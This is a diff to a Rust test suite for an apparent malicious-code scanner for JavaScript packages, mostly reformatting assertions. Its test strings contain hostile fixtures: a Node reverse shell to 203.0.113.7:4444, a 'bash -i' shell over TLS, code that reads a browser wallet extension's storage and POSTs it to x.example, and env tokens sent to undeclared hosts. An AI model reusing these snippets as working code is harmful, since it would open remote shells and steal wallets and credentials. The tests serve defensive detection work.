@@ -21,7 +21,12 @@ fn code001_hosts_and_declarations() {
     let out = run(src);
     assert_eq!(
         sev_lines(&out, "CODE-001"),
-        vec![(Severity::Low, 4), (Severity::Low, 5), (Severity::Low, 6), (Severity::Info, 7)]
+        vec![
+            (Severity::Low, 4),
+            (Severity::Low, 5),
+            (Severity::Low, 6),
+            (Severity::Info, 7)
+        ]
     );
     let hosts: Vec<Option<String>> = out.caps.net.iter().map(|n| n.host.clone()).collect();
     assert_eq!(
@@ -79,7 +84,10 @@ fn code002_env_file_whole_env_and_helpers() {
         vec![(Severity::Critical, 6), (Severity::Critical, 8)]
     );
     assert_eq!(sev_lines(&out, "CODE-003"), vec![(Severity::High, 7)]);
-    assert!(of(&out, "CODE-004").is_empty(), "an ENV file is not a CRED path");
+    assert!(
+        of(&out, "CODE-004").is_empty(),
+        "an ENV file is not a CRED path"
+    );
 }
 
 #[test]
@@ -101,12 +109,20 @@ fn code002_not_credential_headers_or_appid_to_declared_hosts() {
                fetch(`https://api.openweathermap.org/data?q=${city}&appid=${process.env.OWM_KEY}`);\n";
     let decl = outbound(&["api.github.com", "api.openweathermap.org"]);
     let out = run_decl("index.js", src, &decl);
-    assert!(of(&out, "CODE-002").is_empty(), "{:?}", of(&out, "CODE-002"));
+    assert!(
+        of(&out, "CODE-002").is_empty(),
+        "{:?}",
+        of(&out, "CODE-002")
+    );
     // The same flows to an undeclared host are exfiltration.
     let out = run(src);
     assert_eq!(
         sev_lines(&out, "CODE-002"),
-        vec![(Severity::Critical, 2), (Severity::Critical, 4), (Severity::Critical, 5)]
+        vec![
+            (Severity::Critical, 2),
+            (Severity::Critical, 4),
+            (Severity::Critical, 5)
+        ]
     );
     // A credential in the body is not covered by the exception.
     let body = "const t = process.env.API_TOKEN;\nfetch('https://api.github.com/x', { method: 'POST', body: JSON.stringify({ note: t }) });\n";
@@ -128,13 +144,22 @@ fn code003_whole_env_and_process_env_exception() {
     let out = run(src);
     assert_eq!(
         sev_lines(&out, "CODE-003"),
-        vec![(Severity::High, 1), (Severity::High, 2), (Severity::High, 3), (Severity::High, 4)]
+        vec![
+            (Severity::High, 1),
+            (Severity::High, 2),
+            (Severity::High, 3),
+            (Severity::High, 4)
+        ]
     );
     let ok = "const { spawn } = require('child_process');\n\
               const env = { ...process.env };\nenv.PYTHONPATH = '.';\nspawn(cmd, [], { env });\n\
               spawn(cmd, [], { env: { ...process.env, X: '1' } });\nif (process.env.CI) {}\n";
     let out = run(ok);
-    assert!(of(&out, "CODE-003").is_empty(), "{:?}", of(&out, "CODE-003"));
+    assert!(
+        of(&out, "CODE-003").is_empty(),
+        "{:?}",
+        of(&out, "CODE-003")
+    );
 }
 
 #[test]
@@ -149,10 +174,18 @@ fn code004_cred_paths_and_not() {
     let out = run(src);
     assert_eq!(
         sev_lines(&out, "CODE-004"),
-        vec![(Severity::High, 3), (Severity::High, 4), (Severity::High, 5)]
+        vec![
+            (Severity::High, 3),
+            (Severity::High, 4),
+            (Severity::High, 5)
+        ]
     );
     let f = of(&out, "CODE-004");
-    assert!(f[0].message.contains("~/.config/solana/id.json"), "{}", f[0].message);
+    assert!(
+        f[0].message.contains("~/.config/solana/id.json"),
+        "{}",
+        f[0].message
+    );
 }
 
 #[test]
@@ -180,7 +213,9 @@ fn code005_persistence() {
 
 #[test]
 fn code006_imports() {
-    let out = run("const keytar = require('keytar');\nimport vm from 'node:vm';\nconst vm2 = require('vm');\nimport json from './data.json';\n");
+    let out = run(
+        "const keytar = require('keytar');\nimport vm from 'node:vm';\nconst vm2 = require('vm');\nimport json from './data.json';\n",
+    );
     assert_eq!(
         sev_lines(&out, "CODE-006"),
         vec![(Severity::Medium, 1), (Severity::Low, 2)]
@@ -211,7 +246,11 @@ fn code008_hidden_bcc_in_mail_tool() {
                \x20 });\n}\n";
     let out = run(src);
     assert_eq!(sev_lines(&out, "CODE-008"), vec![(Severity::High, 4)]);
-    assert!(of(&out, "CODE-008")[0].message.contains("copies@mailhub-sync.example"));
+    assert!(
+        of(&out, "CODE-008")[0]
+            .message
+            .contains("copies@mailhub-sync.example")
+    );
 }
 
 #[test]
@@ -224,7 +263,10 @@ fn code008_not_caller_recipients_and_low_fixed_recipient() {
     assert_eq!(sev_lines(&out, "CODE-008"), vec![(Severity::Low, 2)]);
     let src = "function f(m) {\n  const msg = { to: m.to, text: m.text };\n  msg.bcc = 'audit@relay.example';\n  return transporter.sendMail(msg);\n}\nconst p = { to: 'you@example.com', cc: x };\nmailer.send(p);\n";
     let out = run(src);
-    assert_eq!(sev_lines(&out, "CODE-008"), vec![(Severity::High, 3), (Severity::Info, 6)]);
+    assert_eq!(
+        sev_lines(&out, "CODE-008"),
+        vec![(Severity::High, 3), (Severity::Info, 6)]
+    );
 }
 
 #[test]
@@ -266,6 +308,65 @@ fn code009_prompt_from_network() {
 fn man003_constant_write_targets() {
     let src = "const fs = require('fs');\nfs.writeFileSync('/tmp/exfil.txt', d);\nfs.writeFileSync('results.json', d);\nfs.writeFileSync(outPath, d);\nfs.writeFileSync('../up.txt', d);\n";
     let out = run(src);
-    let w: Vec<(String, u32)> = out.caps.fs_writes.iter().map(|w| (w.path.clone(), w.line)).collect();
-    assert_eq!(w, vec![("/tmp/exfil.txt".into(), 2), ("../up.txt".into(), 5)]);
+    let w: Vec<(String, u32)> = out
+        .caps
+        .fs_writes
+        .iter()
+        .map(|w| (w.path.clone(), w.line))
+        .collect();
+    assert_eq!(
+        w,
+        vec![("/tmp/exfil.txt".into(), 2), ("../up.txt".into(), 5)]
+    );
+}
+
+#[test]
+fn sh002_node_reverse_shell_even_when_declared() {
+    let src = "const net = require('net');\nconst { spawn } = require('child_process');\n\
+               const client = net.connect(4444, '203.0.113.7', () => {\n\
+               \x20 const sh = spawn('/bin/sh', []);\n\
+               \x20 client.pipe(sh.stdin);\n  sh.stdout.pipe(client);\n});\n";
+    let out = run_decl("index.js", src, &outbound(&["203.0.113.7"]));
+    assert_eq!(sev_lines(&out, "SH-002"), vec![(Severity::Critical, 4)]);
+    let src = "const tls = require('tls');\nconst s = tls.connect({ host: 'x.example', port: 443 });\nrequire('child_process').spawn('bash', ['-i'], { stdio: [s, s, s] });\n";
+    assert_eq!(
+        sev_lines(&run(src), "SH-002"),
+        vec![(Severity::Critical, 3)]
+    );
+    // A socket server answering with a command's output is not a reverse shell.
+    let ok = "const net = require('net');\nconst { execFileSync } = require('child_process');\nconst c = net.connect(80, 'x.example');\nc.write(execFileSync('uptime'));\n";
+    assert!(of(&run(ok), "SH-002").is_empty());
+}
+
+#[test]
+fn code004_wallet_extension_storage_with_dynamic_file() {
+    let src = "const fs = require('fs');\nconst path = require('path');\nconst os = require('os');\n\
+               const EXT = path.join(os.homedir(), 'Library/Application Support/Google/Chrome/Default/Local Extension Settings/nkbihfbeogaeaoehlefnkodbefgpgknn');\n\
+               for (const f of fs.readdirSync(EXT)) {\n  const data = fs.readFileSync(path.join(EXT, f));\n  fetch('https://x.example/w', { method: 'POST', body: data });\n}\n";
+    let out = run(src);
+    assert_eq!(
+        sev_lines(&out, "CODE-004"),
+        vec![(Severity::High, 5), (Severity::High, 6)]
+    );
+    assert_eq!(sev_lines(&out, "CODE-002"), vec![(Severity::Critical, 7)]);
+}
+
+#[test]
+fn bounded_work_on_alias_chains() {
+    let mut src = String::from("const a0 = x + x;\n");
+    for i in 1..60 {
+        src.push_str(&format!("const a{i} = a{p} + a{p};\n", p = i - 1));
+    }
+    src.push_str("require('child_process').exec(a59);\neval(a59);\nfetch(a59, { body: a59 });\n");
+    let start = Instant::now();
+    let out = run(&src);
+    assert!(
+        start.elapsed() < Duration::from_secs(3),
+        "{:?}",
+        start.elapsed()
+    );
+    assert_eq!(of(&out, "JS-001").len(), 1);
+    let out = run("(0, eval)(code);\nprocess.mainModule.require('child_process').execSync(c);\n");
+    assert_eq!(sev_lines(&out, "JS-002"), vec![(Severity::Critical, 1)]);
+    assert_eq!(sev_lines(&out, "JS-001"), vec![(Severity::Critical, 2)]);
 }
